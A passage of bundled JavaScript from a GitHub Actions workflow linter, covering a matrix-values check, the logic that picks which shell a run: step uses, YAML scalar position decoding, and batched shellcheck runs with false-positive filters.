            const v = key === undefined ? undefined : raw(pair.value, lines, depth + 1);
            if (key !== undefined && v)
                props.set(key.toLowerCase(), v);
        }
        return { kind: 'object', props, at };
    }
    if ((0,dist/* isSequence */.wZ)(token)) {
        const elems = [];
        for (const item of token) {
            const v = raw(item, lines, depth + 1);
            if (v)
                elems.push(v);
        }
        return { kind: 'array', elems, at };
    }
    if ((0,dist/* isBasicExpression */.hR)(token))
        return { kind: 'string', value: token.toDisplayString(), at };
    if ((0,dist/* isString */.Kg)(token))
        return { kind: 'string', value: token.value, at };
    if ((0,dist/* isNumber */.Et)(token) || (0,dist/* isBoolean */.Lm)(token))
        return { kind: 'string', value: sourceText(lines, token)?.trim() ?? String(token.toString()), at };
    // null, ~ or an empty value
    return { kind: 'string', value: sourceText(lines, token)?.trim() ?? '', at };
}
/** A mapping key's text; undefined for a key that is not a string (`null:` may reach here without one). */
function keyName(token) {
    return (0,dist/* isString */.Kg)(token) && typeof token.value === 'string' ? token.value : undefined;
}
function equals(a, b) {
    if (a.kind === 'string')
        return b.kind === 'string' && a.value === b.value;
    if (a.kind === 'array')
        return b.kind === 'array' && a.elems.length === b.elems.length && a.elems.every((e, i) => equals(e, b.elems[i]));
    if (b.kind !== 'object' || a.props.size !== b.props.size)
        return false;
    for (const [n, p] of a.props) {
        const q = b.props.get(n);
        if (!q || !equals(p, q))
            return false;
    }
    return true;
}
const hasExpression = (s) => s.includes('${{');
/** Whether the `exclude:` value `sub` matches the matrix value `v`: an object by a subset of its properties (actionlint's isYAMLValueSubset). */
function matches(v, sub) {
    // A value made by an expression on either side could be anything.
    if (sub.kind === 'string' && hasExpression(sub.value))
        return true;
    if (v.kind === 'object')
        return sub.kind === 'object' && [...sub.props].every(([n, s]) => v.props.has(n) && matches(v.props.get(n), s));
    if (v.kind === 'array')
        return sub.kind === 'array' && v.elems.length === sub.elems.length && v.elems.every((e, i) => matches(e, sub.elems[i]));
    if (hasExpression(v.value))
        return true;
    return equals(v, sub);
}
/** The value as actionlint prints it: JSON-like, object keys sorted. */
function show(v) {
    if (v.kind === 'string')
        return JSON.stringify(v.value);
    if (v.kind === 'array')
        return `[${v.elems.map(show).join(', ')}]`;
    return `{${[...v.props].map(([n, p]) => `${JSON.stringify(n)}: ${show(p)}`).sort().join(', ')}}`;
}
function showList(values) {
    const shown = values.slice(0, MOST_VALUES).map(show);
    if (values.length > MOST_VALUES)
        shown.push(`… ${values.length - MOST_VALUES} more`);
    return shown.join(', ');
}
/** `include:`/`exclude:`: undefined when one expression gives the list, an entry without assigns for each expression in it. */
function combinations(token, lines) {
    if (!token)
        return undefined;
    if (!(0,dist/* isSequence */.wZ)(token))
        return { list: [], expression: true };
    const list = [];
    let expression = false;
    for (const item of token) {
        const assigns = new Map();
        if (!(0,dist/* isMapping */.pi)(item))
            expression = true;
        else
            for (const pair of item) {
                const key = keyName(pair.key);
                const v = key === undefined ? undefined : raw(pair.value, lines);
                if (key !== undefined && v)
                    assigns.set(key.toLowerCase(), { key: { at: posOf(pair.key), value: key }, value: v });
            }
        list.push({ assigns });
    }
    return { list, expression };
}
const matrix_values_rule = {
    id: 'PG109',
    name: 'matrix-values',
    level: 'error',
    description: 'A value repeated in a row of `strategy.matrix`, or an `exclude:` entry whose key or value matches nothing in the matrix.',
    help: "As actionlint's check-matrix-values: a value listed twice in a matrix row runs the same job twice (or is a typo of another value), and an `exclude:` key or value that no row or `include:` has excludes nothing, so the combination it was meant to drop still runs. An object value in `exclude:` matches a matrix object by a subset of its properties. A row, `include:` or value given by an expression is not checked.",
    create(context) {
        return {
            jobPre(job, workflow) {
                if (!job.strategy || !(0,dist/* isMapping */.pi)(job.strategy))
                    return;
                let matrix;
                let matrixKey;
                for (const pair of job.strategy) {
                    if (keyName(pair.key) === 'matrix')
                        [matrix, matrixKey] = [pair.value, pair.key];
                }
                if (!matrix || !(0,dist/* isMapping */.pi)(matrix))
                    return;
                const lines = workflow.file.text.split('\n');
                const rows = new Map();
                const ignored = new Set();
                let include;
                let exclude;
                for (const pair of matrix) {
                    const name = keyName(pair.key);
                    if (name === undefined)
                        continue;
                    if (name === 'include')
                        include = pair.value;
                    else if (name === 'exclude')
                        exclude = pair.value;
                    else if (!(0,dist/* isSequence */.wZ)(pair.value))
                        ignored.add(name.toLowerCase());
                    else {
                        const seen = [];
                        for (const item of pair.value) {
                            const v = raw(item, lines);
                            if (!v)
                                continue;
                            const same = seen.find((p) => equals(p, v));
                            if (same)
                                context.report(workflow.file, v, `duplicate value ${show(v)} is found in matrix "${name}". the same value is at line:${same.at.line},col:${same.at.column}; remove one of them`);
                            else
                                seen.push(v);
                        }
                        const values = [...pair.value].map((item) => raw(item, lines)).filter((v) => v !== undefined);
                        rows.set(name.toLowerCase(), values);
                    }
                }
                const excluded = combinations(exclude, lines);
                const included = combinations(include, lines);
                if (!excluded || excluded.list.length === 0 || included?.expression)
                    return;
                if (rows.size === 0 && ignored.size === 0 && !included?.list.length) {
                    context.report(workflow.file, { at: posOf(matrixKey) }, '"exclude" section exists but no matrix variation exists; remove it, or add the rows it should filter');
                    return;
                }
                for (const c of included?.list ?? []) {
                    for (const [n, a] of c.assigns) {
                        if (ignored.has(n))
                            continue;
                        const row = rows.get(n) ?? [];
                        if (!row.some((v) => equals(v, a.value)))
                            row.push(a.value);
                        rows.set(n, row);
                    }
                }
                for (const c of excluded.list) {
                    for (const [n, a] of c.assigns) {
                        if (ignored.has(n))
                            continue;
                        const row = rows.get(n);
                        if (!row) {
                            const names = [...rows.keys()].sort();
                            context.report(workflow.file, a.key, `"${a.key.value}" in "exclude" section does not exist in matrix. available matrix configurations are ${nameList(names)}${didYouMean(n, names)}; the entry excludes nothing`);
                            continue;
                        }
                        if (row.some((v) => matches(v, a.value)))
                            continue;
                        context.report(workflow.file, a.value, `value ${show(a.value)} in "exclude" does not match in matrix "${a.key.value}" combinations. possible values are ${showList(row)}; the entry excludes nothing`);
                    }
                }
            }
        };
    }
};
/* harmony default export */ const matrix_values = (matrix_values_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/index.js






















const family = {
    name: 'syntax',
    title: 'Syntax and types',
    description: 'What GitHub would refuse or misread: YAML and schema, expressions and their contexts, job graph, inputs of local actions and reusable workflows, runner labels, `uses:` forms and local files, constant conditions.',
    rules: [
        unreadable_file,
        workflow_syntax,
        expression_syntax,
        unknown_context,
        unknown_function,
        unknown_property,
        type_mismatch,
        function_not_allowed,
        function_arguments,
        needs_unknown_job,
        needs_cycle,
        step_outputs_reference,
        needs_outputs_reference,
        local_action_inputs,
        reusable_workflow_call,
        runner_label,
        uses_syntax,
        missing_local_file,
        constant_if,
        filter_glob,
        required_input_default,
        matrix_values
    ]
};
/* harmony default export */ const syntax = (family);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/scripts/shell.js
/**
 * What the scripts rules share: the shell a `run:` step runs in (step `shell:`, then
 * `defaults.run.shell` of its job and its workflow, then the runner's OS, as actionlint decides),
 * the values of `mappings` in the token tree, and the script of a `run:` with the position in the
 * file of each of its characters, so that a finding inside the script (shellcheck's line and
 * column, a deprecated command) lands on the workflow line and column it came from.
 */


/** The value of `key` in a mapping token. */
function shell_valueOf(token, key) {
    if (!token || !(0,dist/* isMapping */.pi)(token))
        return undefined;
    for (const pair of token)
        if ((0,dist/* isString */.Kg)(pair.key) && pair.key.value === key)
            return pair.value;
    return undefined;
}
/** The position of a token's first character. */
function tokenPos(token) {
    return token.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 };
}
/** A scalar token's text as written (`${{ }}` kept), or undefined for a mapping or sequence. */
function tokenText(token) {
    if (!token || (0,dist/* isMapping */.pi)(token) || (0,dist/* isSequence */.wZ)(token))
        return undefined;
    if ((0,dist/* isLiteral */.c$)(token))
        return token.toString();
    // An expression: its source text, when the parser kept it (block scalars keep their content only).
    const source = token.source;
    return typeof source === 'string' ? source : (0,dist/* isBasicExpression */.hR)(token) ? token.toDisplayString() : undefined;
}
/** `defaults.run.shell` of a job or workflow mapping. */
function defaultShell(token) {
    return shell_valueOf(shell_valueOf(shell_valueOf(token, 'defaults'), 'run'), 'shell');
}
/** The labels of `runs-on:` (a label, a list, or `{ group, labels }`), lower-cased; none for an expression. */
function runnerLabels(runsOn) {
    if (!runsOn)
        return [];
    const labels = (0,dist/* isMapping */.pi)(runsOn) ? shell_valueOf(runsOn, 'labels') : runsOn;
    if (!labels)
        return [];
    const items = (0,dist/* isSequence */.wZ)(labels) ? [...labels] : [labels];
    return items.filter((t) => (0,dist/* isString */.Kg)(t)).map((t) => t.value.toLowerCase());
}
/** The platform of a job's runner; `any` when the labels say nothing or conflict. */
function platformOf(job) {
    let platform = 'any';
    for (const l of runnerLabels(job.runsOn)) {
        let k = 'any';
        if (l === 'windows' || l.startsWith('windows-'))
            k = 'windows';
        else if (l.startsWith('macos-') || l.startsWith('ubuntu-') || l === 'macos' || l === 'linux')
            k = 'unix';
        if (k === 'any')
            continue;
        if (platform !== 'any' && platform !== k)
            return 'any';
        platform = k;
    }
    return platform;
}
/**
 * The shell a `run:` step runs in, as actionlint's shellcheck rule decides: the step's `shell:`,
 * else the job's `defaults.run.shell`, else the workflow's, else `pwsh` on a Windows runner, else
 * `bash`. A composite action's step has no default: undefined without `shell:`.
 */
function stepShell(step, owner, file) {
    const own = tokenText(shell_valueOf(step.token, 'shell'));
    if (own !== undefined)
        return own;
    if (file.kind === 'action' || 'kind' in owner)
        return undefined;
    const job = owner;
    const fromJob = tokenText(defaultShell(job.token));
    if (fromJob)
        return fromJob;
    const fromWorkflow = tokenText(defaultShell(file.root));
    if (fromWorkflow)
        return fromWorkflow;
    for (const l of runnerLabels(job.runsOn))
        if (l === 'windows' || l.startsWith('windows-'))
            return 'pwsh';
    if (windowsOnly(step))
        return 'pwsh';
    return 'bash';
}
/**
 * A step whose `if:` runs it on Windows only (`runner.os == 'Windows'`, `matrix.os == 'windows-…'`,
 * joined by `&&` at most): its default shell is pwsh, whatever else the job's matrix runs on
 * (vitejs/vite's ci.yml sets `$env:` variables in such a step).
 */
function windowsOnly(step) {
    const condition = tokenText(shell_valueOf(step.token, 'if'));
    if (!condition || condition.includes('||') || /!\s*\(/.test(condition))
        return false;
    return /\b(?:runner\.os\s*==\s*['"]windows['"]|matrix\.os\s*==\s*['"]windows[-\w.]*['"]|startsWith\(\s*matrix\.os\s*,\s*['"]windows)/i.test(condition);
}
/** The shell shellcheck should read a script as: `bash`, `sh`, or undefined (not a POSIX shell script). */
function shellcheckShell(shell) {
    if (shell === 'bash' || shell.startsWith('bash '))
        return 'bash';
    if (shell === 'sh' || shell.startsWith('sh '))
        return 'sh';
    return undefined;
}
/**
 * actionlint's sanitizeExpressionsInScript: every `${{ … }}` becomes as many underscores as it has
 * characters (a newline inside it too; a `}}` inside a string literal does not end it), so that the shell still sees one word where the runner
 * pastes one and every other character keeps its place. Underscores rather than spaces:
 * `if ${{ contains(xs, s) }}; then` must stay a command.
 */
function sanitizeExpressions(src) {
    let out = '';
    let rest = src;
    for (;;) {
        const s = rest.indexOf('${{');
        if (s < 0)
            break;
        // The first `}}` outside a '…' string literal (`format('{{0}}', x)` holds one inside), as the runner reads it.
        let e = -1;
        let inString = false;
        for (let i = s + 3; i < rest.length - 1; i++) {
            if (rest[i] === "'")
                inString = !inString;
            else if (!inString && rest[i] === '}' && rest[i + 1] === '}') {
                e = i;
                break;
            }
        }
        if (e < 0)
            break;
        const end = e + 2;
        out += rest.slice(0, s) + '_'.repeat(end - s);
        rest = rest.slice(end);
    }
    return out + rest;
}
/** A file's YAML scalars by the offset of their first character, parsed once per file. */
const scalarsOf = new WeakMap();
function fileScalars(file) {
    let cached = scalarsOf.get(file);
    if (!cached) {
        const lineCounter = new yaml_dist/* LineCounter */.HN();
        // Only files that parsed into a model get here: the reader already refused alias bombs.
        const doc = (0,yaml_dist/* parseDocument */.Tp)(file.text, { lineCounter, uniqueKeys: false });
        const scalars = new Map();
        (0,yaml_dist/* visit */.YR)(doc, {
            Scalar(_key, node) {
                if (node.range && !scalars.has(node.range[0]))
                    scalars.set(node.range[0], node);
            }
        });
        const starts = [0];
        for (let i = 0; i < file.text.length; i++)
            if (file.text.charCodeAt(i) === 10)
                starts.push(i + 1);
        cached = { starts, scalars };
        scalarsOf.set(file, cached);
    }
    return cached;
}
/** A block scalar (`|`, `>`, with chomping): its content lines stripped of their indentation, folded for `>`. */
function decodeBlock(text, start, end) {
    const header = /^([|>])([+-]?)([1-9]?)([+-]?)[ \t]*(?:#[^\n]*)?\r?\n/.exec(text.slice(start, Math.min(end, start + 1000)));
    if (!header || header[3])
        return undefined;
    const folded = header[1] === '>';
    const chomp = header[2] || header[4];
    const lines = [];
    let indent = -1;
    let pos = start + header[0].length;
    while (pos < end) {
        let nl = text.indexOf('\n', pos);
        if (nl < 0 || nl > end)
            nl = end;
        let line = text.slice(pos, nl);
        if (line.endsWith('\r'))
            line = line.slice(0, -1);
        const lead = /^ */.exec(line)[0].length;
        if (lead === line.length)
            lines.push(undefined);
        else {
            if (indent < 0)
                indent = lead;
            if (lead < indent)
                break;
            lines.push({ text: line.slice(indent), at: pos + indent });
        }
        pos = nl + 1;
    }
    let value = '';
    const offsets = [];
    const add = (s, at, step) => {
        for (let i = 0; i < s.length; i++) {
            value += s[i];
            offsets.push(at + i * step);
        }
    };
    let last = lines.length;
    while (last > 0 && lines[last - 1] === undefined)
        last--;
    let prev;
    let empties = 0;
    for (let i = 0; i < last; i++) {
        const line = lines[i];
        if (!line) {
            empties++;
            continue;
        }
        if (prev) {
            const breakAt = prev.at + prev.text.length;
            const spaced = /^[ \t]/.test(prev.text) || /^[ \t]/.test(line.text);
            if (!folded || spaced)
                add('\n'.repeat(empties + 1), breakAt, 0);
            else if (empties === 0)
                add(' ', breakAt, 0);
            else
                add('\n'.repeat(empties), breakAt, 0);
        }
        else
            add('\n'.repeat(empties), line.at, 0);
        add(line.text, line.at, 1);
        prev = line;
        empties = 0;
    }
    if (prev && chomp !== '-')
        add('\n'.repeat(chomp === '+' ? 1 + lines.length - last : 1), prev.at + prev.text.length, 0);
    return { value, offsets };
}
const ESCAPES = { '\\': '\\', '"': '"', '/': '/', n: '\n', t: '\t', '\t': '\t', r: '\r', '0': '\0', a: '\x07', b: '\b', e: '\x1b', f: '\f', v: '\v', ' ': ' ', N: '\x85', _: '\xa0' };
/** A plain scalar over several lines: each line trimmed, one line break a space, n empty lines n newlines. */
function decodePlainLines(text, start, end) {
    let value = '';
    const offsets = [];
    let pos = start;
    let empties = -1;
    let prevEnd = start;
    while (pos < end) {
        let nl = text.indexOf('\n', pos);
        if (nl < 0 || nl > end)
            nl = end;
        const line = text.slice(pos, nl);
        const lead = pos === start ? 0 : /^[ \t]*/.exec(line)[0].length;
        const body = line.slice(lead).replace(/[ \t\r]+$/, '');
        if (!body)
            empties++;
        else {
            if (empties >= 0) {
                const sep = empties === 0 ? ' ' : '\n'.repeat(empties);
                for (const c of sep) {
                    value += c;
                    offsets.push(prevEnd);
                }
            }
            for (let i = 0; i < body.length; i++) {
                value += body[i];
                offsets.push(pos + lead + i);
            }
            prevEnd = pos + lead + body.length;
            empties = 0;
        }
        pos = nl + 1;
    }
    return { value, offsets };
}
/** A one-line scalar (plain, single- or double-quoted), or a plain one over several lines. */
function decodeLine(text, start, end) {
    const raw = text.slice(start, end);
    if (raw.includes('\n'))
        return raw[0] === "'" || raw[0] === '"' ? undefined : decodePlainLines(text, start, end);
    const offsets = [];
    let value = '';
    if (raw[0] === "'" || raw[0] === '"') {
        const quote = raw[0];
        for (let i = 1; i < raw.length - 1; i++) {
            let c = raw[i];
            const at = start + i;
            if (quote === "'" && c === "'")
                i++;
            else if (quote === '"' && c === '\\') {
                const e = raw[++i];
                if (e === 'x' || e === 'u' || e === 'U') {
                    const n = e === 'x' ? 2 : e === 'u' ? 4 : 8;
                    const hex = raw.slice(i + 1, i + 1 + n);
                    if (!/^[0-9a-fA-F]+$/.test(hex) || hex.length !== n)
                        return undefined;
                    c = String.fromCodePoint(parseInt(hex, 16));
                    i += n;
                }
                else if (e in ESCAPES)
                    c = ESCAPES[e];
                else
                    return undefined;
            }
            for (const unit of c)
                for (let k = 0; k < unit.length; k++) {
                    value += unit[k];
                    offsets.push(at);
                }
        }
        return { value, offsets };
    }
    for (let i = 0; i < raw.length; i++) {
        value += raw[i];
        offsets.push(start + i);
    }
    return { value, offsets };
}
/** The `run:` script of a step with its positions, or undefined when the step has none. */
function positionedScript(file, run) {
    const at = tokenPos(run);
    const { starts, scalars } = fileScalars(file);
    const startOffset = (starts[at.line - 1] ?? 0) + at.column - 1;
    const node = scalars.get(startOffset);
    if (!node || !(0,yaml_dist/* isScalar */.jn)(node) || typeof node.value !== 'string') {
        const text = tokenText(run);
        return text === undefined ? undefined : placed(text, at, undefined, starts);
    }
    const [s, e] = node.range;
    const block = node.type === 'BLOCK_LITERAL' || node.type === 'BLOCK_FOLDED';
    const decoded = block ? decodeBlock(file.text, s, e) : decodeLine(file.text, s, e);
    // Placed only when our reading gives exactly the value YAML gives: never a wrong line.
    return placed(node.value, at, decoded && decoded.value === node.value ? decoded.offsets : undefined, starts);
}
function placed(text, at, offsets, starts) {
    const lineStarts = [0];
    for (let i = 0; i < text.length; i++)
        if (text.charCodeAt(i) === 10)
            lineStarts.push(i + 1);
    const toPos = (fileOffset) => {
        let lo = 0;
        let hi = starts.length - 1;
        while (lo < hi) {
            const mid = (lo + hi + 1) >> 1;
            if (starts[mid] <= fileOffset)
                lo = mid;
            else
                hi = mid - 1;
        }
        return { line: lo + 1, column: fileOffset - starts[lo] + 1 };
    };
    return {
        text,
        at,
        exact: offsets !== undefined,
        posAt(offset) {
            if (!offsets || offsets.length === 0)
                return at;
            if (offset < offsets.length)
                return toPos(offsets[offset]);
            return toPos(offsets[offsets.length - 1] + 1);
        },
        offsetOf(line, column) {
            // Past the last line (shellcheck's end of input, after the newline the runner's file ends with): the end.
            if (line > lineStarts.length)
                return text.length;
            const ls = lineStarts[Math.max(line, 1) - 1];
            let offset = ls;
            // Columns count code points: step over a surrogate pair as one.
            for (let c = 1; c < column && offset < text.length && text.charCodeAt(offset) !== 10; c++) {
                const code = text.charCodeAt(offset);
                offset += code >= 0xd800 && code < 0xdc00 ? 2 : 1;
            }
            return offset;
        }
    };
}

// EXTERNAL MODULE: external "node:child_process"
var external_node_child_process_ = __webpack_require__(1421);
// EXTERNAL MODULE: external "node:os"
var external_node_os_ = __webpack_require__(8161);
;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/scripts/shellcheck-run.js
/**
 * Running shellcheck over many scripts at once: each script a file of a temporary directory, one
 * process per batch of {@link BATCH} files of one shell (`-f json1` names each comment's file),
 * at most {@link PARALLEL} processes at a time, each killed after {@link TIMEOUT_MS} or past
 * {@link MAX_OUTPUT_BYTES} of output. actionlint starts one process per script.
 */




const SHELLCHECK_SEVERITIES = ['error', 'warning', 'info', 'style'];
/**
 * actionlint's exclusions (rule_shellcheck.go), for the same reasons:
 * SC1091 a sourced file is not found (it exists on the runner, not here);
 * SC2194, SC2050, SC2157, SC2043 a constant word, condition, `-z` argument or one-item loop that is
 * the underscores standing for a `${{ }}`; SC2153, SC2154 a variable never assigned, which `env:`
 * of the step, job or workflow assigns.
 */
const SHELLCHECK_EXCLUDED = 'SC1091,SC2194,SC2050,SC2153,SC2154,SC2157,SC2043';
const BATCH = 200;
const PARALLEL = 2;
const TIMEOUT_MS = 60_000;
const MAX_OUTPUT_BYTES = 32 * 1024 * 1024;
/**
 * The first line of each script, as the runner runs it (`bash -e {0}` / `sh -e {0}`, with
 * `-o pipefail` for bash); shellcheck's line numbers are one more than the script's.
 */
function setupLine(shell) {
    return shell === 'bash' ? 'set -eo pipefail' : 'set -e';
}
/** Runs one batch; its stdout, or why not. */
function runBatch(executable, args, cwd) {
    return new Promise((resolve) => {
        const child = (0,external_node_child_process_.spawn)(executable, args, { cwd, stdio: ['ignore', 'pipe', 'pipe'] });
        const out = [];
        let size = 0;
        let err = '';
        let settled = false;
        const done = (r) => {
            if (settled)
                return;
            settled = true;
            clearTimeout(timer);
            resolve(r);
        };
        const timer = setTimeout(() => {
            child.kill('SIGKILL');
            done({ failed: `shellcheck did not finish within ${TIMEOUT_MS / 1000} s` });
        }, TIMEOUT_MS);
        child.stdout.on('data', (b) => {
            size += b.length;
            if (size > MAX_OUTPUT_BYTES) {
                child.kill('SIGKILL');
                done({ failed: `shellcheck wrote more than ${MAX_OUTPUT_BYTES / 1024 / 1024} MB` });
            }
            else
                out.push(b);
        });
        child.stderr.on('data', (b) => {
            if (err.length < 2000)
                err += b.toString('utf8');
        });
        child.on('error', (e) => done(e.code === 'ENOENT' ? { missing: true } : { failed: `shellcheck could not start (${e.code ?? e.message})` }));
        child.on('close', (code) => {
            // 0: no comment, 1: comments; anything else is shellcheck failing.
            if (code === 0 || code === 1)
                done({ stdout: Buffer.concat(out).toString('utf8') });
            else
                done({ failed: `shellcheck exited with ${code}${err.trim() ? `: ${err.trim().split('\n')[0]}` : ''}` });
        });
    });
}
/** Checks every script; comments by script index, in shellcheck's order. */
async function runShellcheck(scripts, executable, severity) {
    if (scripts.length === 0)
        return { kind: 'ok', comments: [] };
    // Each distinct script once (`run: npm ci` in twenty jobs is one check), its comments shared by every copy.
    const uniqueOf = new Map();
    const unique = [];
    const indexOf = scripts.map((s) => {
        const key = `${s.shell}\0${s.text}`;
        let i = uniqueOf.get(key);
        if (i === undefined) {
            i = unique.push(s) - 1;
            uniqueOf.set(key, i);
        }
        return i;
    });
    const result = await runUnique(unique, executable, severity);
    return result.kind === 'ok' ? { kind: 'ok', comments: indexOf.map((i) => result.comments[i]) } : result;
}
/** {@link runShellcheck} over distinct scripts. */
async function runUnique(scripts, executable, severity) {
    const comments = scripts.map(() => []);
    const dir = await (0,promises_.mkdtemp)(external_node_path_.join((0,external_node_os_.tmpdir)(), 'phase-gates-shellcheck-'));
    try {
        // Scripts in s/, shellcheck run in the empty cwd/: a script's `source ./x.sh` (-x) finds nothing, not another script.
        await (0,promises_.mkdir)(external_node_path_.join(dir, 's'));
        await (0,promises_.mkdir)(external_node_path_.join(dir, 'cwd'));
        const names = scripts.map((_, i) => `../s/${i}.sh`);
        const byName = new Map(names.map((n, i) => [n, i]));
        await Promise.all(scripts.map((s, i) => (0,promises_.writeFile)(external_node_path_.join(dir, 's', `${i}.sh`), `${setupLine(s.shell)}\n${s.text}\n`)));
        const batches = [];
        for (const shell of ['bash', 'sh']) {
            const indexes = scripts.flatMap((s, i) => (s.shell === shell ? [i] : []));
            for (let i = 0; i < indexes.length; i += BATCH)
                batches.push({ shell, indexes: indexes.slice(i, i + BATCH) });
        }
        let failure;
        let next = 0;
        const worker = async () => {
            while (next < batches.length && !failure) {
                const batch = batches[next++];
                const args = ['--norc', '-f', 'json1', '-x', '--shell', batch.shell, '-S', severity, '-e', SHELLCHECK_EXCLUDED, ...batch.indexes.map((i) => names[i])];
                const r = await runBatch(executable, args, external_node_path_.join(dir, 'cwd'));
                if ('missing' in r)
                    failure = { kind: 'missing', executable };
                else if ('failed' in r)
                    failure = { kind: 'failed', reason: r.failed };
                else {
                    let parsed;
                    try {
                        parsed = JSON.parse(r.stdout);
                    }
                    catch {
                        failure = { kind: 'failed', reason: 'shellcheck wrote output that is not JSON' };
                        return;
                    }
                    for (const c of parsed.comments ?? []) {
                        const index = byName.get(c.file ?? '');
                        // Comments on files a script sources (-x) are not about a run: step.
                        if (index === undefined)
                            continue;
                        const level = SHELLCHECK_SEVERITIES.includes(c.level) ? c.level : 'error';
                        comments[index].push({ line: (c.line ?? 2) - 1, column: c.column ?? 1, level, code: c.code ?? 0, message: String(c.message ?? '') });
                    }
                }
            }
        };
        await Promise.all(Array.from({ length: Math.min(PARALLEL, batches.length) }, worker));
        return failure ?? { kind: 'ok', comments };
    }
    finally {
        await (0,promises_.rm)(dir, { recursive: true, force: true });
    }
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/scripts/shellcheck.js


/** shellcheck's level as a finding's: error and warning kept, info and style notes. */
const LEVEL = { error: 'error', warning: 'warning', info: 'note', style: 'note' };
/** The finding of one shellcheck comment: where it is in the file, and what it says. */
function shellcheckFinding(script, c) {
    const message = `SC${c.code} (${c.level}): ${c.message.trim().replace(/\.$/, '')}`;
    if (!script.exact || c.line < 1)
        return { at: script.at, message: `${message} (line ${c.line}, column ${c.column} of the script)`, level: LEVEL[c.level] };
    return { at: script.posAt(script.offsetOf(c.line, c.column)), message, level: LEVEL[c.level] };
}
/**
 * SC2193 ("can never be equal") in a test holding a `${{ }}`: the underscores standing for it look
 * constant to shellcheck, while the runner pastes a value that varies (`"${{ matrix.os }}" == windows-*`).
 */
function isExpressionArtefact(script, c) {
    if (c.code !== 2193 || !script.exact || c.line < 1)
        return false;
    // shellcheck points at the operator: the test is the text between the nearest `[` before it and `]` after it.
    const at = script.offsetOf(c.line, c.column);
    const start = script.text.lastIndexOf('[', at);
    const end = script.text.indexOf(']', at);
    return start >= 0 && end >= 0 && script.text.slice(start, end).includes('${{');
}
/** Commands whose output is a list joined with spaces on purpose, to be split into arguments. */
const SPACE_JOINED = [
    /\bprintf\s+(['"])(?:(?!\1).)*%[-+ #0-9.]*[sdi] \1/, // printf "…%s " args: one item a space
    /\bjoin\(\s*(['"])\s+\1\s*\)/, // jq … | join(" ")
    /\btr\s+(['"])\\n\1\s+(['"]) \2/, // tr '\n' ' '
    /\bpaste\s+(?:-\w*s\w*d\s*|-d\s*)(['"]) \1/, // paste -sd ' '
    /^\s*go\s+list\b/, // go list ./...: import paths, never with spaces
    /^\s*(?:sudo\s+)?docker\s+(?:(?:image|container|volume|network)\s+)?(?:ls|list|images|ps)\b[^|;&]*\s(?:-\w*q\w*|--quiet)\b/ // ids only
];
/**
 * SC2046 ("quote this to prevent word splitting") on a command substitution that builds a list on
 * purpose: joined with spaces (`$(printf "$IMAGE@sha256:%s " *)`, `$(jq … | join(" "))`), or of
 * items that never hold a space (`$(go list ./...)`, `$(docker image ls -aq)`): the author wants one
 * argument per item, which quoting would break. Found three times in the real corpus (psf/black and
 * zizmor's `docker buildx imagetools create`) and four times in cosign and k6.
 */
function isDeliberateList(script, c) {
    if (c.code !== 2046 || !script.exact || c.line < 1)
        return false;
    const at = script.offsetOf(c.line, c.column);
    let substitution;
    if (script.text.startsWith('$(', at)) {
        let depth = 0;
        let end = at + 1;
        for (; end < script.text.length && end < at + 2000; end++) {
            const ch = script.text[end];
            if (ch === '(')
                depth++;
            else if (ch === ')' && --depth === 0)
                break;
        }
        substitution = script.text.slice(at + 2, end);
    }
    else if (script.text[at] === '`') {
        const end = script.text.indexOf('`', at + 1);
        substitution = script.text.slice(at + 1, end < 0 ? at + 1 : end);
    }
    else
        return false;
    return SPACE_JOINED.some((re) => re.test(substitution));
}
/** SC1083 ("this { is literal") on git's `@{upstream}`, `@{u}`, `@{-1}`: the braces are git's, not the shell's. */
function isGitRevision(script, c) {
    if (c.code !== 1083 || !script.exact || c.line < 1)
        return false;
    const at = script.offsetOf(c.line, c.column);
    const open = script.text[at] === '{' ? at : script.text.lastIndexOf('{', at);
    return open > 0 && script.text[open - 1] === '@' && !script.text.slice(open, at).includes('\n');
}
const shellcheck_rule = {
    id: 'PG130',
    name: 'shellcheck',
    level: 'warning',
    description: "shellcheck's findings in the `run:` scripts that run in bash or sh, at their line and column in the workflow.",
    help: "Runs [shellcheck](https://www.shellcheck.net) on every `run:` script whose shell is bash or sh (the step's `shell:`, else `defaults.run.shell` of the job, then of the workflow, else bash, or pwsh on a `windows-*` runner: pwsh, python and cmd scripts are not read), as actionlint does: each `${{ }}` becomes as many underscores (one word, every other character in its place), the script starts with the runner's `set -eo pipefail` (`set -e` for sh), and SC1091, SC2194, SC2050, SC2153, SC2154, SC2157 and SC2043 are left out (a sourced file that exists only on the runner, constants that are really `${{ }}`, variables that `env:` sets); SC2193 (“can never be equal”) is dropped in a `[[ ]]` or `[ ]` test holding a `${{ }}`, whose value varies at run time; SC2046 is dropped on a command substitution that joins a list with spaces on purpose (`$(printf \"$IMAGE@sha256:%s \" *)`, `$(jq … | join(\" \"))`, `tr '\\n' ' '`, `paste -sd ' '`), whose items are meant to become arguments, and on lists whose items never hold a space (`$(go list ./...)`, `$(docker ps -q)`); SC1083 is dropped on git's `@{upstream}`; a step whose `if:` runs it on Windows only (`runner.os == 'Windows'`) runs in pwsh and is not read. shellcheck's errors are errors and its warnings warnings; its info and style findings are notes, reported only when `.github/phase-gates.yml` says `shellcheck: { severity: info }` (or `style`). Without shellcheck on PATH (`apt-get install shellcheck`, `brew install shellcheck`; or `shellcheck: { path: … }`), one note says so and every other rule runs. Fix the script as the SC code's page says (https://www.shellcheck.net/wiki/SC2086), or silence one line with a `# shellcheck disable=SC2086` comment in the script.",
    create(context) {
        const scripts = [];
        return {
            step(step, owner, file) {
                const run = shell_valueOf(step.token, 'run');
                const shell = run && stepShell(step, owner, file);
                const sh = shell !== undefined ? shellcheckShell(shell) : undefined;
                if (!run || !sh)
                    return;
                const script = positionedScript(file.file, run);
                if (script && script.text.trim())
                    scripts.push({ file: file.file, script, shell: sh });
            },
            async finish() {
                if (scripts.length === 0)
                    return;
                const options = context.settings.shellcheck ?? {};
                const executable = options.path ?? 'shellcheck';
                const result = await runShellcheck(scripts.map((s) => ({ shell: s.shell, text: sanitizeExpressions(s.script.text) })), executable, options.severity ?? 'warning');
                const first = scripts[0];
                const count = `${scripts.length} bash/sh script${scripts.length === 1 ? '' : 's'} of run: steps`;
                if (result.kind === 'missing') {
                    const where = options.path ? `shellcheck not found at ${options.path}` : 'shellcheck is not on PATH';
